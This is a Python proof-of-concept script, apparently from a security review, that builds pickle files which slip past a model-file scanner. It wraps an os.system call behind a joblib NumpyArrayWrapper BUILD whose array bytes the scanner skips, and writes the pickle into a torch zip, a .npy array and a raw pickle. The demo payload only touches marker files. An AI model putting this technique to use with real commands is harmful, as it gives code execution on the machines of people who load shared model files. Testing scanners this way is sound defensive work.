# A pickle that names joblib.numpy_pickle.NumpyArrayWrapper and BUILDs it with a numeric state
# (shape (N,), dtype u1). The scanner's walk always steps over N "array bytes" after that BUILD, as
# joblib's own unpickler would; but torch.load / pickle.load / np.load are not joblib: they read
# those N bytes as opcodes. Only raw pickle files get a second, plain reading (container.rs
# pickle_file -> plain_reading); zip entries (torch data.pkl), .npy object arrays and legacy
# torch files do not.
import io, os, sys, zipfile, struct
here = os.path.dirname(os.path.abspath(__file__))
def payload(marker):
    # POP the wrapper, then os.system(...) left on the stack; STOP follows
    return b"0cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR"
def su(s):
    b = s.encode(); return b"X" + struct.pack("<I", len(b)) + b
def wrapper_pickle(marker):
    body = payload(marker)
    n = len(body)
    p = b"\x80\x02"
    p += b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81"          # cls.__new__(cls)
    p += b"}(" + su("subclass") + b"N" + su("shape") + b"J" + struct.pack("<i", n) + b"\x85"
    p += su("order") + su("C") + su("dtype") + b"cnumpy\ndtype\n" + su("u1") + b"\x89\x88\x87R"
    p += su("allow_mmap") + b"\x89u"                                # SETITEMS
    p += b"b"                                                        # BUILD
    p += body + b"."
    return p

# 1. torch.save-style zip: data.pkl is the pickle above
m1 = "/tmp/review39/pwned_jw_torchzip"
with zipfile.ZipFile(os.path.join(here, "jw_torchzip.pt"), "w", zipfile.ZIP_STORED) as z:
    z.writestr("archive/data.pkl", wrapper_pickle(m1))
    z.writestr("archive/byteorder", "little")
    z.writestr("archive/version", "3\n")
    z.writestr("archive/.data/serialization_id", "0")
# 2. .npy object array whose pickle is the one above (np.load(allow_pickle=True))
m2 = "/tmp/review39/pwned_jw_npy"
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + " " * (64 - 10 - len(hdr) - 1) + "\n"
open(os.path.join(here, "jw_object.npy"), "wb").write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + wrapper_pickle(m2))
# 3. raw pickle (control: gets the plain reading)
open(os.path.join(here, "jw_raw.pkl"), "wb").write(wrapper_pickle("/tmp/review39/pwned_jw_raw"))
print("ok")
